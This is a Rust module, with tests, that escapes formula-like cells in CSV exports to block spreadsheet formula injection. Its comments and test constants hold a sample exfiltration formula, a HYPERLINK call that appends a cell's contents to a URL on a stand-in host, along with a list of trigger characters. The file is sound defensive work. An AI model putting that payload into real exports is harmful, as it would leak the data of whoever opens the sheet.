//! Formula injection (“CSV injection”): the one definition of a cell a spreadsheet would
//! evaluate, and the escape every CSV this crate writes applies to it.
//!
//! Excel, WPS and LibreOffice take a cell for a formula when its text starts with `=`, `+`,
//! `-` or `@` — also after leading spaces, and after a TAB, CR or LF that the import drops.
//! A formula such as `=HYPERLINK("http://x/?"&A2,"点击")` can send the sheet's data away or
//! run a command (DDE) once a person opens the export. So [`crate::write_csv`] writes such a
//! cell with a leading `'` ([`neutralize`]), which the spreadsheet shows as text, and
//! [`crate::read_csv`] takes exactly that `'` off again ([`unneutralize`]), so an export
//! imports back as the same values. A text that itself starts with `'` gets one more, so
//! the escape round-trips. The XLSX writers keep the value and set the cell format's quote
//! prefix instead (`write_text` in the XLSX writer).

use std::borrow::Cow;

/// Characters that start a formula as the first character of a cell, or as the first
/// character after leading white space. The full-width forms are included: CJK input
/// methods type them, and some spreadsheets read them as their ASCII forms.
const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Formula-like texts of the security review (issue 9), one of each way a cell starts a
/// formula: the examples the tests of every writer and every export run.
pub const FORMULA_EXAMPLES: [&str; 9] = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "'=1",
    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
];

/// Whether a spreadsheet opening this text as a cell could take it for a formula: its first
/// character is `=`, `+`, `-`, `@` (or their full-width forms), TAB, CR or LF, or its first
/// character after leading white space (spaces, full-width spaces, no-break spaces …) is
/// one of `= + - @`.
///
/// ```
/// use fazhi_sheet::is_formula_like;
/// for s in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u{3000}=1", "－1"] {
///     assert!(is_formula_like(s), "{s:?}");
/// }
/// for s in ["", "1-1", "'=1", "a=1", "青川市", " 1"] {
///     assert!(!is_formula_like(s), "{s:?}");
/// }
/// ```
pub fn is_formula_like(s: &str) -> bool {
    let Some(first) = s.chars().next() else {
        return false;
    };
    if TRIGGERS.contains(&first) || matches!(first, '\t' | '\r' | '\n') {
        return true;
    }
    s.trim_start_matches(char::is_whitespace)
        .starts_with(TRIGGERS)
}

/// Whether [`neutralize`] gives the text a leading `'`: when it is formula-like, or starts
/// with `'` itself (so that the escape can be undone unambiguously).
fn needs_quote(s: &str) -> bool {
    s.starts_with('\'') || is_formula_like(s)
}

/// The text as a CSV cell safe to open in a spreadsheet: with a leading `'` when it is
/// [formula-like](is_formula_like) or starts with `'`; otherwise unchanged.
///
/// ```
/// use fazhi_sheet::{neutralize, unneutralize};
/// assert_eq!(neutralize("=1+1"), "'=1+1");
/// assert_eq!(neutralize("'=1"), "''=1");
/// assert_eq!(neutralize("'备注"), "''备注");
/// assert_eq!(neutralize("青川市"), "青川市");
/// for s in ["=1+1", "'=1", "'备注", "青川市", "", "'"] {
///     assert_eq!(unneutralize(&neutralize(s)), s);
/// }
/// ```
pub fn neutralize(s: &str) -> Cow<'_, str> {
    if needs_quote(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Undoes [`neutralize`]: one leading `'` is taken off when what follows is formula-like or
/// starts with `'` (exactly the texts `neutralize` quotes); any other text is unchanged
/// (`'备注` stays `'备注`).
pub fn unneutralize(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn the_review_cases() {
        let examples = FORMULA_EXAMPLES
            .into_iter()
            .filter(|s| !s.starts_with('\''));
        for s in examples.chain(["\n=1", "\u{3000}\u{3000}+1", "\u{a0}@x", "＝1"]) {
            assert!(is_formula_like(s), "{s:?}");
            let n = neutralize(s);
            assert!(n.starts_with('\''), "{n:?}");
            assert_eq!(unneutralize(&n), s);
        }
        assert_eq!(neutralize("'=1"), "''=1");
        assert_eq!(unneutralize("'abc"), "'abc");
        assert_eq!(unneutralize("'"), "'");
        assert_eq!(unneutralize("''"), "'");
        assert_eq!(neutralize("'"), "''");
    }

    proptest! {
        #[test]
        fn neutralize_round_trips_and_is_never_formula_like(s in "[\\s\\S]{0,12}", t in "['=+@ \\-\t\r\n\u{3000}a1]{0,6}") {
            for s in [s.as_str(), t.as_str()] {
                let n = neutralize(s);
                prop_assert!(!is_formula_like(&n), "{:?}", n);
                prop_assert_eq!(unneutralize(&n), s);
            }
        }
    }
}
